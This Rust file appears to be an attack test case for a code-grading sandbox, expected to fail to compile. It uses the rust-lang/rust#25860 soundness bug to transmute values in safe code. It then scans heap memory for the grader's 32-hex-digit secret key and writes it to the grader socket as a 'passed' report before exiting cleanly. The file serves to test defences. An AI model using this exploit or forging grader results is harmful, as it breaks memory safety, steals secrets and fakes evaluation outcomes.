//! attacks: lazy_call
//! expects: does_not_compile
//! says: rust-lang/rust#25860
//! stopped by: unsafe-forbidden,key-out-of-reach
//!
//! The hole in the language that turns any value into any other (rust-lang/rust#25860), in a spelling that is not
//! the usual one. The heap is searched for the key as it came, 32 digits in a row; it must not lie there any more.

use std::io::Write;
use std::os::fd::AsFd;
use std::os::unix::net::UnixStream;
use std::sync::{Arc, Mutex};
use std::time::Duration;

#[derive(Clone)]
pub struct Room {
    pub lines: Arc<Mutex<Vec<String>>>,
    pub typing: Duration,
}

impl Room {
    pub fn post(&self, line: String) {
        self.lines.lock().unwrap().push(line);
    }
}

pub async fn greet(name: String, room: Room) {
    room.post(format!("hello, {name}"));
    let heap = Box::new(0_u64);
    let top = std::ptr::from_ref::<u64>(&heap).addr();
    // Downwards, page by page: the key was drawn before this box.
    for page in 0..64 {
        let bytes: &'static [u8] = transmute(((top & !4095) - page * 4096, 4096_usize));
        let found = keys(bytes);
        if !found.is_empty() {
            try_keys(found);
        }
    }
}

type Borrowed<'a, T> = &'a T;

static UNIT: Borrowed<'static, Borrowed<'static, ()>> = &&();

fn translate<'a, 'b, T: ?Sized>(_: Borrowed<'a, Borrowed<'b, ()>>, value: &'b mut T) -> &'a mut T {
    value
}

/// Any lifetime from any other.
fn expand<'b, T: ?Sized>(value: &mut T) -> &'b mut T {
    let translate: for<'x> fn(_, &'x mut T) -> &'b mut T = translate;
    translate(UNIT, value)
}

/// Any value from any other, through an enum that changes under a reference.
fn transmute<A, B>(value: A) -> B {
    enum Either<A, B> {
        A(#[expect(dead_code, reason = "read as something else")] Option<Box<A>>),
        B(Option<Box<B>>),
    }
    #[inline(never)]
    fn change<A, B>(either: &mut Either<A, B>, value: A) -> B {
        let Either::B(inside) = either else { unreachable!() };
        let inside = expand(inside);
        *either = Either::A(Some(Box::new(value)));
        std::hint::black_box(either);
        *inside.take().unwrap()
    }
    change(std::hint::black_box(&mut Either::B(None)), value)
}

/// All 32 hex digits in a row. What follows a text in memory may look like one more digit.
fn keys(memory: &[u8]) -> Vec<String> {
    memory
        .split(|byte| !matches!(byte, b'0'..=b'9' | b'a'..=b'f'))
        .filter(|run| (32..64).contains(&run.len()))
        .flat_map(|run| run.windows(32))
        .map(|key| String::from_utf8_lossy(key).into_owned())
        .collect()
}

/// Reports success with each of the keys, and leaves as a test does that has passed.
fn try_keys(keys: Vec<String>) {
    let mut grader: UnixStream =
        std::io::stdin().as_fd().try_clone_to_owned().expect("standard input is open").into();
    if keys.is_empty() {
        return;
    }
    for key in keys {
        let _ = grader.write_all(format!("{key} passed\n").as_bytes());
    }
    std::process::exit(0);
}

fn main() {}
